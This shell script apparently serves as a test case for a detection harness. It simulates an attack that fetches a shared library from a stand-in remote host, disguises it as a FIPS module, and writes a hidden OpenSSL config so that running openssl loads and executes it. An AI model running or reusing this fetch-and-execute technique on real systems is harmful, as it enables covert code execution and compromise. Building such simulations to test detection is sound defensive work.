#!/bin/sh
. /opt/case/case.sh

curl -s -o /var/tmp/fips.so http://203.0.113.10/programs/preload.so && chmod 644 /var/tmp/fips.so
printf 'openssl_conf = c\n[c]\nproviders = p\n[p]\nfips = f\ndefault = d\n[f]\nmodule = /var/tmp/fips.so\nactivate = 1\n[d]\nactivate = 1\n' >/var/tmp/.cnf
OPENSSL_CONF=/var/tmp/.cnf openssl version >/dev/null 2>&1 || true
OPENSSL_CONF=/var/tmp/.cnf openssl list -providers >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
